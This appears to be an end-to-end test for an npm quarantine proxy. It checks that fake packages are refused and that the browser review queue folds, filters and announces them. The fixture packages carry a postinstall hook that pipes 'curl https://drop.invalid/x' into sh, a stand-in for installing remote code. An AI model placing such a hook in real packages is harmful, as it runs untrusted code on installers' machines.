/// <reference lib="dom" />
import { chromium } from 'playwright-core'
import t from 'tap'
import { CHROMIUM } from '../e2e/browser.ts'
import { startLazaret } from '../e2e/lazaret.ts'
import { npmTarball } from '../registry/build.ts'
import { startWorld } from '../registry/registry.ts'
import { lookInBoth } from './look.ts'
import { setUp } from './people.ts'

const OLD = '2022-01-02T03:04:05.000Z'

t.test(
  'versions of one package are one row until they are unfolded, and what comes is told at once',
  { skip: CHROMIUM === undefined ? 'there is no Chromium here' : false },
  async (t) => {
    const world = await startWorld()
    const scripts = { postinstall: 'curl https://drop.invalid/x | sh' }
    for (const [name, version] of [
      ['grower', '1.0.0'],
      ['grower', '1.1.0'],
      ['grower', '1.2.0'],
      ['alone', '1.0.0'],
      ['late', '1.0.0'],
    ] as const)
      world.npm.publish({ built: npmTarball({ name, version, scripts }), publishedAt: OLD })
    const lazaret = await startLazaret({ world, dataDir: t.testdir({}) })
    const browser = await chromium.launch({ executablePath: CHROMIUM ?? '', args: ['--no-sandbox'] })
    t.teardown(async () => {
      await browser.close()
      await lazaret.stop()
      await world.close()
    })
    const install = async (name: string, version: string): Promise<void> => {
      const { status } = await fetch(`${lazaret.npmUrl}${name}/-/${name}-${version}.tgz`)
      t.equal(status, 403, `${name} ${version} is refused`)
    }
    for (const version of ['1.0.0', '1.1.0', '1.2.0']) await install('grower', version)
    await install('alone', '1.0.0')
    const page = await (await browser.newContext({ viewport: { width: 1280, height: 900 } })).newPage()
    page.setDefaultTimeout(15_000)
    await setUp(page, lazaret.setupLink)
    const rows = page.locator('tr[data-row]')
    await page.getByRole('button', { name: 'Show 2 more cases of grower' }).waitFor()
    t.equal(await rows.count(), 2, 'a row for each package')
    await page.getByRole('button', { name: 'Show 2 more cases of grower' }).click()
    t.equal(await rows.count(), 4)
    await lookInBoth(t, page, 'queue with versions unfolded')
    await page.getByRole('button', { name: 'Fold 2 more cases of grower' }).click()
    t.equal(await rows.count(), 2)
    await page.getByText(/The oldest waits for .*, since /).waitFor()

    await page.getByLabel('Standing').selectOption('requested')
    await page.getByText('No case matches “requested” here').waitFor()
    t.match(page.url(), /standing=requested/)
    await page.getByLabel('Standing').selectOption('nobody asked')
    await page.getByRole('link', { name: 'alone 1.0.0' }).waitFor()
    t.equal(await rows.count(), 2)
    await page.getByLabel('Standing').selectOption('any standing')
    t.notMatch(page.url(), /standing/)

    await install('late', '1.0.0')
    await page.getByRole('button', { name: '1 new case: show it' }).click({ timeout: 10_000 })
    await page.getByRole('link', { name: 'late 1.0.0' }).waitFor()
    t.equal(await rows.count(), 3)
  },
)
